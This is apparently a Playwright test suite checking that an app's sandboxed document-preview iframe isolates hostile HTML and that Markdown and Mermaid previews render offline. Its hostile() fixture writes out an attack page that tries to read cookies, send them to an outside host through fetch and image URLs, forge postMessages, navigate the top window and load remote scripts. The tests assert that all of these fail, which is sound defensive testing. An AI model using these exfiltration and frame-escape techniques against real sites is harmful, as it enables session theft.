"""Document previews in the real app's page, in Chromium (CONTRACT §9): a hostile HTML document in
the preview frame reaches nothing of the app while its own inline script runs; Markdown and
Mermaid documents draw without the network; a preview's errors reach the app as messages.

The frame is put in the app's page as the panel puts it: `<iframe sandbox="allow-scripts">` with
the address `GET /api/documents/{id}/preview` gives. What the document tried is checked from the
app's side: the server's request log (tests/request_log_plugin.py), a loopback server that records
every hit, the page's address, the browser's pages.
"""
from __future__ import annotations

import json
import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.documents_plugin import PreviewDocs
from tests.e2e.ui import CHROMIUM, sign_in

pytestmark = pytest.mark.skipif(not os.path.exists(CHROMIUM), reason=f"browser tests need Chromium at {CHROMIUM}")

# The app's side: what reaches its window by postMessage, and its CSP's complaints.
LISTEN = """() => {
  window.__got = [];
  window.__violations = [];
  addEventListener('message', (e) => window.__got.push({
    origin: e.origin, data: e.data,
    fromFrame: !!e.source && e.source === document.getElementById('preview')?.contentWindow}));
  document.addEventListener('securitypolicyviolation',
    (e) => window.__violations.push({directive: e.effectiveDirective, blocked: e.blockedURI}));
}"""
# As the panel does: a sandboxed frame with scripts and nothing else.
INSERT = """(url) => {
  const frame = document.createElement('iframe');
  frame.id = 'preview';
  frame.setAttribute('sandbox', 'allow-scripts');
  frame.src = url;
  document.body.append(frame);
}"""
SECRET_COOKIE = "probe=readable-by-the-app"


class Watcher:
    """A loopback HTTP server that records the path of every request it gets, whatever the method."""

    def __init__(self):
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def _hit(self):
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_PUT = do_HEAD = _hit

            def log_message(self, *args):
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self):
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def watcher():
    w = Watcher()
    yield w
    w.close()


@pytest.fixture
def previews(start_server, tmp_path):
    return PreviewDocs(start_server, tmp_path / "documents.json")


def hostile(app: str, outside: str) -> str:
    """A document that tries every way out it can think of, then writes what it got into its own page."""
    return """<!doctype html>
<html><head><title>hostile</title>
<link rel="stylesheet" href="{OUT}/style.css">
</head><body>
<p id="marker">not run</p>
<img src="{OUT}/markup.png" alt="">
<img src="{APP}/api/chats?hostile=markup-img" alt="">
<form id="to-app" action="{APP}/api/chats?hostile=form" method="post"><input name="title" value="x"></form>
<form id="to-outside" action="{OUT}/form" method="post"><input name="x" value="y"></form>
<pre id="results"></pre>
<script>
const APP = "{APP}", OUT = "{OUT}";
document.getElementById("marker").textContent = "inline script ran";
const got = {mode: document.compatMode, violations: []};
document.addEventListener("securitypolicyviolation",
  (e) => got.violations.push(e.effectiveDirective + " " + e.blockedURI));
const attempt = (name, fn) => {
  try { got[name] = "returned " + String(fn()); } catch (e) { got[name] = "threw " + e.name; }
};
attempt("cookie", () => document.cookie);
attempt("parentCookie", () => parent.document.cookie);
attempt("parentLocation", () => parent.location.href);
attempt("storage", () => localStorage.length);
attempt("top", () => { top.location.href = OUT + "/top"; return "assigned"; });
attempt("open", () => window.open(OUT + "/popup"));
attempt("formToApp", () => { document.getElementById("to-app").submit(); return "submitted"; });
attempt("formOutside", () => { document.getElementById("to-outside").submit(); return "submitted"; });
attempt("postMessage", () => {
  parent.postMessage({type: "numi-preview-error", message: "forged", line: 1, column: 1}, "*");
  parent.postMessage({type: "numi-sign-out", everything: true}, APP);
  return "posted";
});
attempt("beacon", () => navigator.sendBeacon(APP + "/api/chats?hostile=beacon", "x"));
let cookie = "";
try { cookie = document.cookie; } catch (e) {}
const settles = (el) => new Promise((done) => {
  el.onload = () => done("loaded"); el.onerror = () => done("failed");
});
const element = (tag, attrs) => {
  const el = Object.assign(document.createElement(tag), attrs);
  const settled = settles(el);
  document.body.append(el);
  return settled;
};
const refused = (part) => new Promise((done) => document.addEventListener("securitypolicyviolation",
  (e) => { if (e.blockedURI.includes(part)) done("refused by " + e.effectiveDirective); }));
const waits = {
  // sendBeacon only queues (it says true): its refusal comes after, as a violation.
  beaconSent: refused("hostile=beacon"),
  fetch: fetch(APP + "/api/chats?hostile=fetch", {credentials: "include"})
    .then((r) => "answered " + r.status, (e) => "rejected " + e.name),
  fetchOutside: fetch(OUT + "/fetch?c=" + encodeURIComponent(cookie), {mode: "no-cors"})
    .then(() => "answered", (e) => "rejected " + e.name),
  xhr: new Promise((done) => {
    const x = new XMLHttpRequest();
    x.onload = () => done("answered " + x.status); x.onerror = () => done("failed");
    try { x.open("GET", APP + "/api/chats?hostile=xhr"); x.withCredentials = true; x.send(); }
    catch (e) { done("threw " + e.name); }
  }),
  socket: new Promise((done) => {
    try {
      const ws = new WebSocket(APP.replace("http", "ws") + "/ws/_app?hostile=socket");
      ws.onopen = () => done("opened"); ws.onerror = () => done("failed");
    } catch (e) { done("threw " + e.name); }
  }),
  image: element("img", {src: OUT + "/image.png?c=" + encodeURIComponent(cookie)}),
  appImage: element("img", {src: APP + "/api/chats?hostile=img"}),
  script: element("script", {src: OUT + "/script.js"}),
  appScript: element("script", {src: APP + "/api/chats?hostile=script"}),
};
Promise.all(Object.entries(waits).map(([k, p]) => p.then((v) => { got[k] = v; }))).then(() => {
  document.getElementById("results").textContent = JSON.stringify(got);
});
</script>
</body></html>
""".replace("{APP}", app).replace("{OUT}", outside)


def test_a_hostile_preview_reaches_nothing_of_the_app(page, context, previews, watcher):
    previews.add("a-page", "html", hostile(previews.app, watcher.url))
    sign_in(page, previews.server)
    # A cookie the app's own scripts can read (the sign-in cookie is HttpOnly besides).
    page.evaluate(f"document.cookie = '{SECRET_COOKIE}; SameSite=Strict'")
    where = page.url
    seen_before = len(previews.requests())
    pages = []
    context.on("page", lambda p: pages.append(p))
    page.evaluate(LISTEN)
    url = previews.url("a-page")
    page.evaluate(INSERT, url)

    frame = page.frame_locator("#preview")
    expect(frame.locator("#marker")).to_have_text("inline script ran")  # its own inline script runs
    expect(frame.locator("#results"), "the document's attempts did not all end: was one let through?"
           ).not_to_be_empty()
    got = json.loads(frame.locator("#results").text_content())

    # What the document saw: no cookie, no parent, no storage, no answers.
    assert got["mode"] == "CSS1Compat"  # our error reporter went in after the doctype
    for name in ("cookie", "parentCookie", "parentLocation", "storage"):
        assert got[name] == "threw SecurityError", (name, got[name])
    assert got["open"] == "returned null"
    assert got["fetch"] == "rejected TypeError" and got["fetchOutside"] == "rejected TypeError"
    assert got["xhr"] in ("failed", "threw SecurityError")
    assert got["socket"] in ("failed", "threw SecurityError")
    assert got["beaconSent"] == "refused by connect-src"
    assert all(got[k] == "failed" for k in ("image", "appImage", "script", "appScript")), got
    assert SECRET_COOKIE not in json.dumps(got)

    # The forged messages reach the app's window as what they are: from an opaque origin ("null"),
    # their source the frame, never the app's own origin.
    page.wait_for_function("() => window.__got.length >= 2")
    got_messages = page.evaluate("window.__got")
    assert [m["data"]["type"] for m in got_messages] == ["numi-preview-error", "numi-sign-out"]
    assert all(m["origin"] == "null" and m["fromFrame"] for m in got_messages)

    # From the app's side: its address is unchanged, no window opened, and it got no request from the frame.
    assert page.url == where
    assert pages == [] and context.pages == [page]
    # (The frame's would say so: its marked paths, its opaque origin, another site.)
    frame_requests = [r for r in previews.requests()[seen_before:]
                      if "hostile" in r["path"] or r["origin"] == "null" or r["site"] in ("cross-site", "same-site")]
    assert frame_requests == []
    # The loopback server got nothing from the document, though this browser can reach it.
    assert watcher.hits == []
    control = context.new_page()  # a blank page: no CSP, no favicon
    control.evaluate("(url) => fetch(url, {mode: 'no-cors'}).then(() => true)", f"{watcher.url}/control")
    control.close()
    assert watcher.hits == ["/control"]
    # And the frame still holds the document: no form took it anywhere.
    assert [f.url for f in page.frames] == [where, url]


@pytest.mark.parametrize("way", [
    "<script>location.href = 'OUT/self-navigation';</script>",
    '<meta http-equiv="refresh" content="0; url=OUT/refresh">',
])
def test_a_preview_cannot_take_its_own_frame_elsewhere(page, previews, watcher, way):
    # The app's frame-src names the preview origin alone, and it holds for every load of the frame.
    previews.add("away", "html", "<!doctype html><p>leaving</p>" + way.replace("OUT", watcher.url))
    sign_in(page, previews.server)
    page.evaluate(LISTEN)
    page.evaluate(INSERT, previews.url("away"))
    page.wait_for_function("(out) => window.__violations.some((v) => v.blocked.startsWith(out))", arg=watcher.url)
    violation = next(v for v in page.evaluate("window.__violations") if v["blocked"].startswith(watcher.url))
    assert violation["directive"] == "frame-src"
    assert watcher.hits == []


MARKDOWN = """# A plan

Some *emphasis* and a table:

| a | b |
|---|---|
| 1 | 2 |

![remote](OUT/markdown.png)

<img src="x" onerror="document.title = 'markdown ran a script'">

```mermaid
graph TD
  A[Start] --> B{Choice}
```
"""


def test_markdown_and_mermaid_draw_inside_the_preview_without_the_network(page, context, previews, watcher):
    previews.add("md", "markdown", MARKDOWN.replace("OUT", watcher.url))
    previews.add("diagram", "mermaid", "sequenceDiagram\n  Alice->>Bob: Hello")
    loaded, refused = [], []
    context.on("requestfinished", lambda r: loaded.append(r.url))
    context.on("requestfailed", lambda r: refused.append((r.url, r.failure)))
    sign_in(page, previews.server)
    preview_origin = previews.url("md").split("/p/", 1)[0]

    page.evaluate(INSERT, previews.url("md"))
    frame = page.frame_locator("#preview")
    expect(frame.locator("body")).to_have_attribute("data-rendered", "true")
    expect(frame.locator("h1")).to_have_text("A plan")
    expect(frame.locator("td").first).to_have_text("1")
    expect(frame.locator("figure[data-drawn] svg")).to_be_visible()
    assert "Start" in frame.locator("figure svg").text_content()
    # Markdown's HTML went through DOMPurify: the handler was dropped, not run.
    assert frame.locator("img[onerror]").count() == 0
    assert frame.locator("html").evaluate("() => document.title") != "markdown ran a script"

    page.evaluate("document.getElementById('preview').remove()")
    page.evaluate(INSERT, previews.url("diagram"))
    expect(frame.locator("body")).to_have_attribute("data-rendered", "true")
    expect(frame.locator("main[data-drawn] svg")).to_be_visible()
    assert "Alice" in frame.locator("main svg").text_content()

    # Everything the frames loaded came from the preview origin: the pages and the vendored libraries;
    # what the document asked of anywhere else (its remote image) the CSP refused before it left.
    frames = [u for u in loaded if not u.startswith(previews.app)]
    assert frames and all(u.startswith(preview_origin + "/p/") for u in frames), frames
    assert any(u.endswith("/lib/mermaid.min.js") for u in frames)
    assert any(u.startswith(watcher.url) for u, _ in refused)
    assert all(failure == "csp" for _, failure in refused), refused
    assert watcher.hits == []


def test_a_previews_errors_reach_the_app_as_messages(page, previews):
    previews.add("throws", "html", "<!doctype html>\n<p>hi</p>\n<script>\n  missingFunction();\n</script>\n"
                                   "<script>Promise.reject(new RangeError('too far'));</script>")
    previews.add("broken", "mermaid", "graph TD\n  A -->")
    sign_in(page, previews.server)
    page.evaluate(LISTEN)
    page.evaluate(INSERT, previews.url("throws"))
    page.wait_for_function("() => window.__got.length >= 2")
    got = page.evaluate("window.__got")
    assert all(m["origin"] == "null" and m["fromFrame"] for m in got)
    assert got[0]["data"] == {"type": "numi-preview-error", "line": 4, "column": 3,
                              "message": "Uncaught ReferenceError: missingFunction is not defined"}
    assert got[1]["data"] == {"type": "numi-preview-error", "line": None, "column": None,
                              "message": "RangeError: too far"}

    page.evaluate("document.getElementById('preview').remove(); window.__got.length = 0")
    page.evaluate(INSERT, previews.url("broken"))
    page.wait_for_function("() => window.__got.length >= 1")
    message = page.evaluate("window.__got")[0]
    assert message["fromFrame"] and message["data"]["type"] == "numi-preview-error"
    assert "Parse error" in message["data"]["message"] and message["data"]["line"] is None
    expect(page.frame_locator("#preview").locator(".numi-error")).to_contain_text("Parse error")
    # The document's uncaught errors were meant: not the app's (the page fixture checks for those).
    assert all("missingFunction" in e or "too far" in e for e in page.page_errors), page.page_errors
    page.page_errors.clear()
